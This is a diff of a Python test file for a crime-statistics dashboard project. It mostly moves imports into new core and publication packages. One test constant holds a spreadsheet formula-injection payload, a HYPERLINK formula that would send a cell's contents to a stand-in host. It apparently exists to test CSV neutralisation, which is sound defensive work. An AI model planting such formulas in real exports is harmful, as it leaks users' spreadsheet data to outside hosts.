@@ -39,12 +39,12 @@ from dashboards_fixtures import (
     query,
 )
 
+from core.csv_safety import neutralise, neutralise_text
 from crimestat import cli
 from dashboards import i18n
 from dashboards.face import PUBLIC_SETTING, public_serving_dir
-from dashboards.public_snapshot import publish_public_snapshot
-from dashboards.serving import POINTER_FILE, current_snapshot, publish_snapshot
-from sdmx_export.csv_safety import neutralise, neutralise_text
+from publication.public_snapshot import publish_public_snapshot
+from publication.serving import POINTER_FILE, current_snapshot, publish_snapshot
 
 FORMULA = '=HYPERLINK("http://x/?"&A1,"post")'
 ECRIS_METRIC = i18n.text("persons_convicted_ecris", "en")
@@ -158,7 +158,7 @@ def test_embargo_lifts_at_the_next_publication(home: Path, tmp_path: Path) -> No
 def test_changed_release_file_is_not_published(home: Path, tmp_path: Path) -> None:
     """A public file whose bytes differ from the digest its release recorded stops the
     public publication (published files are immutable)."""
-    from dashboards.serving import SnapshotError
+    from publication.serving import SnapshotError
 
     exports = tmp_path / "exports"
     (exports / RELEASE_FILE).parent.mkdir(parents=True)
@@ -511,9 +511,9 @@ def test_partner_csv_label_is_neutralised(monkeypatch: pytest.MonkeyPatch) -> No
     numbers (a negative one too) stay numbers."""
     import datetime as dt
 
-    from sdmx_export.partners import tables
-    from sdmx_export.partners.config import load_partner
-    from sdmx_export.settings import StructureSettings
+    from core.settings import StructureSettings
+    from publication.partners import tables
+    from publication.partners.config import load_partner
 
     settings = StructureSettings()
     table = next(t for t in load_partner("LV").tables if t.id == "customs_violations_lt_lv")
